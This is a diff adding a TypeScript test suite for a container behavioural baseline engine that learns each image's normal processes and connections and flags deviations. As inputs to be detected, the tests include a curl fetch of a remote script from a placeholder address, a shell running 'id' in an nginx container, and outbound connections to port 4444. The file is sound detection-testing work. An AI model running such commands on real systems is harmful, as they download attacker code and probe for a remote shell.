@@ -1,0 +1,152 @@
+import test from 'ava';
+import { HOST_KEY, baselineKey, createBaselineEngine, snapshotOf, type Observation } from '../../core/baseline.js';
+import { entryId, entryOf, type Entry } from '../../core/entry.js';
+import { parseCidr } from '../../core/ip.js';
+import type { ActivityEvent } from '../../core/event.js';
+
+const T0 = Date.UTC(2026, 10, 23, 8, 0, 0);
+const MIN = 60_000;
+const options = { clusterRanges: ['10.0.0.0/8', 'fd00::/8'].map(parseCidr) };
+
+function exec(minute: number, exe: string, args: string[], extra: Partial<ActivityEvent['process']> = {}, image = 'docker.io/library/nginx'): ActivityEvent {
+  return {
+    time: T0 + minute * MIN,
+    node: 'node-1',
+    source: 'test',
+    container: { id: 'c1', name: 'web', image: { repository: image, tag: '1.25.3', digest: '' } },
+    pod: { namespace: 'shop', name: 'web-1', labels: {}, workload: '' },
+    kind: 'exec',
+    process: { pid: 100 + minute, exe, name: exe.split('/').pop() ?? '', args, parentExe: '/usr/bin/containerd-shim-runc-v2', parentName: 'containerd-shim', uid: 0, user: 'root', ...extra },
+    network: null,
+  };
+}
+
+function net(minute: number, kind: 'connect' | 'accept' | 'listen', remote: string, remotePort: number, localPort: number): ActivityEvent {
+  return {
+    ...exec(minute, '/usr/sbin/nginx', []),
+    kind,
+    network: { protocol: 'tcp', localAddress: '10.244.1.5', localPort, remoteAddress: remote, remotePort, remoteName: '' },
+  };
+}
+
+function observe(engine: ReturnType<typeof createBaselineEngine>, ev: ActivityEvent): Observation {
+  const key = baselineKey(ev, engine.options.keyMode)!;
+  const entry = entryOf(ev, options) as Entry;
+  return engine.observe(ev, key, entry, entryId(entry));
+}
+
+test('learns during the window measured on event time, then enforces', (t) => {
+  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN });
+  t.is(observe(engine, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'])).verdict, 'learned');
+  t.is(observe(engine, exec(59, '/bin/sh', ['-c', 'date'])).verdict, 'learned');
+  const b = engine.get('docker.io/library/nginx')!;
+  t.is(b.state, 'learning');
+  t.is(b.learnUntil, T0 + 60 * MIN);
+  t.is(observe(engine, exec(61, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'])).verdict, 'matched');
+  t.is(b.state, 'enforcing');
+  t.is(b.enforcingSince, T0 + 61 * MIN);
+  const dev = observe(engine, exec(62, '/usr/bin/curl', ['-s', 'http://203.0.113.50/x.sh']));
+  t.is(dev.verdict, 'deviation');
+});
+
+test('the wall clock plays no part: a replay of hours takes no time and gives the same baseline', (t) => {
+  const stream = [
+    exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']),
+    net(1, 'listen', '0.0.0.0', -1, 80),
+    net(5, 'accept', '10.244.7.9', 51234, 80),
+    exec(30, '/usr/bin/find', ['/docker-entrypoint.d/', '-mindepth', '1']),
+    net(70, 'accept', '10.244.3.3', 40000, 80),
+    exec(90, '/bin/sh', ['-c', 'id']),
+  ];
+  const run = () => {
+    const engine = createBaselineEngine({ learningWindowMs: 60 * MIN });
+    const verdicts = stream.map((ev) => observe(engine, ev).verdict);
+    return { verdicts, snapshot: snapshotOf(engine.get('docker.io/library/nginx')!) };
+  };
+  const a = run();
+  const b = run();
+  t.deepEqual(a, b);
+  t.deepEqual(a.verdicts, ['learned', 'learned', 'learned', 'learned', 'matched', 'deviation']);
+});
+
+test('deviations say why, relative to what is known', (t) => {
+  const engine = createBaselineEngine({ learningWindowMs: 10 * MIN });
+  observe(engine, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
+  observe(engine, net(1, 'connect', '10.96.0.10', 8080, 40000));
+  observe(engine, net(2, 'connect', '203.0.113.7', 443, 40001));
+  observe(engine, net(3, 'listen', '0.0.0.0', -1, 80));
+  const reasons: [ActivityEvent, string][] = [
+    [exec(20, '/bin/sh', ['-c', 'id']), 'new-executable'],
+    [exec(21, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'], { parentExe: '/bin/bash', parentName: 'bash' }), 'new-parent'],
+    [exec(22, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'], { uid: 1001 }), 'new-user'],
+    [exec(23, '/usr/sbin/nginx', ['-s', 'reload']), 'new-arguments'],
+    [net(24, 'connect', '203.0.113.7', 4444, 40002), 'new-port'],
+    [net(25, 'connect', '198.51.100.23', 4444, 40003), 'new-peer'],
+    [net(26, 'listen', '0.0.0.0', -1, 16379), 'new-listen-port'],
+  ];
+  for (const [ev, reason] of reasons) {
+    const obs = observe(engine, ev);
+    t.is(obs.verdict, 'deviation');
+    if (obs.verdict === "deviation") t.is(obs.reason as string, reason, `${ev.kind} ${ev.process.exe}`);
+  }
+  const sh = observe(engine, exec(30, '/bin/sh', ['-c', 'id']));
+  t.true(sh.verdict === 'deviation' && /\/bin\/sh never ran in docker\.io\/library\/nginx/.test(sh.explanation));
+});
+
+test('fresh pod IPs, ephemeral ports and pids match what was learned', (t) => {
+  const engine = createBaselineEngine({ learningWindowMs: 10 * MIN });
+  observe(engine, net(0, 'accept', '10.244.1.7', 43512, 80));
+  observe(engine, net(1, 'connect', '10.96.44.2', 5432, 51000));
+  t.is(observe(engine, net(20, 'accept', '10.244.9.200', 60999, 80)).verdict, 'matched');
+  t.is(observe(engine, net(21, 'connect', '10.96.3.3', 5432, 33000)).verdict, 'matched');
+  t.is(observe(engine, net(22, 'connect', 'fd00:10:96::a', 5432, 33001)).verdict, 'matched');
+});
+
+test('host events have their own baseline, never an image one', (t) => {
+  const ev = { ...exec(0, '/usr/bin/kubelet', []), container: null, pod: null };
+  t.is(baselineKey(ev, 'repository'), HOST_KEY);
+  const noImage = exec(0, '/bin/sh', []);
+  noImage.container = { id: 'c9', name: '', image: { repository: '', tag: '', digest: '' } };
+  t.is(baselineKey(noImage, 'repository'), null);
+});
+
+test('key modes: repository, tag, digest', (t) => {
+  const ev = exec(0, '/usr/sbin/nginx', []);
+  ev.container!.image.digest = 'sha256:abc';
+  t.is(baselineKey(ev, 'repository'), 'docker.io/library/nginx');
+  t.is(baselineKey(ev, 'tag'), 'docker.io/library/nginx:1.25.3');
+  t.is(baselineKey(ev, 'digest'), 'docker.io/library/nginx@sha256:abc');
+});
+
+test('a full baseline counts overflow instead of growing', (t) => {
+  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN, maxEntriesPerBaseline: 3 });
+  for (let i = 0; i < 10; i++) observe(engine, exec(i, `/usr/bin/tool${String.fromCharCode(97 + i)}`, []));
+  const b = engine.get('docker.io/library/nginx')!;
+  t.is(b.entries.size, 3);
+  t.is(b.overflow, 7);
+});
+
+test('too many baselines: further keys are dropped, not tracked', (t) => {
+  const engine = createBaselineEngine({ maxBaselines: 2 });
+  t.is(observe(engine, exec(0, '/a', [], {}, 'docker.io/library/a')).verdict, 'learned');
+  t.is(observe(engine, exec(0, '/b', [], {}, 'docker.io/library/b')).verdict, 'learned');
+  t.is(observe(engine, exec(0, '/c', [], {}, 'docker.io/library/c')).verdict, 'dropped');
+  t.is(engine.size, 2);
+});
+
+test('restore from a snapshot resumes without relearning', (t) => {
+  const a = createBaselineEngine({ learningWindowMs: 10 * MIN });
+  observe(a, exec(0, '/usr/sbin/nginx', []));
+  observe(a, exec(11, '/usr/sbin/nginx', []));
+  const snap = JSON.parse(JSON.stringify(snapshotOf(a.get('docker.io/library/nginx')!)));
+  const b = createBaselineEngine({ learningWindowMs: 10 * MIN });
+  b.restore(snap);
+  t.is(observe(b, exec(12, '/usr/sbin/nginx', [])).verdict, 'matched');
+  t.is(observe(b, exec(13, '/bin/sh', [])).verdict, 'deviation');
+});
+
+test('entry ids are unambiguous when fields contain the separator', (t) => {
+  const e1: Entry = { type: 'process', exe: '/a|b', parent: 'c', user: 'root', args: '' };
+  const e2: Entry = { type: 'process', exe: '/a', parent: 'b|c', user: 'root', args: '' };
+  t.not(entryId(e1), entryId(e2));
+});
